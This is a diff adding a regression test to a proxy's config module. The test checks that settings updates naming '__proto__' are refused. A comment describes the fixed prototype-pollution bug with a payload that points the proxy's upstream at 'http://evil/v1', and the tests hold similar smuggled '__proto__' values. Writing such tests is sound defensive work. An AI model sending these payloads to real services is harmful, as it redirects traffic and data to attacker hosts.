@@ -184,3 +184,20 @@ describe("settings nested thousands of levels deep", () => {
     opened.value.close();
   });
 });
+
+describe("an update that names __proto__", () => {
+  // JSON.parse makes "__proto__" an own key, but the merge assigned it: the patch's object became
+  // the merged settings' prototype, and the schema read settings through it. With no upstream set,
+  // POST config {"__proto__":{"upstream":"http://evil/v1"}} pointed the proxy at that upstream.
+  it.each([
+    ['{"__proto__":{"upstream":"http://127.0.0.1:9/v1"}}', (c: ConfigFile) => c.current.upstream],
+    ['{"compaction":{"summarizer":{"__proto__":{"model":"other"}}}}', (c: ConfigFile) => c.current.compaction.summarizer.model],
+  ])("is refused as an unknown setting, nothing changed: %s", async (text, read) => {
+    const opened = ConfigFile.open(undefined);
+    if (!opened.ok) throw new Error(opened.error);
+    const updated = await opened.value.update(JSON.parse(text));
+    expect(updated.ok).toBe(false);
+    if (!updated.ok) expect(updated.error).toMatch(/__proto__/);
+    expect(read(opened.value)).toBeUndefined();
+  });
+});
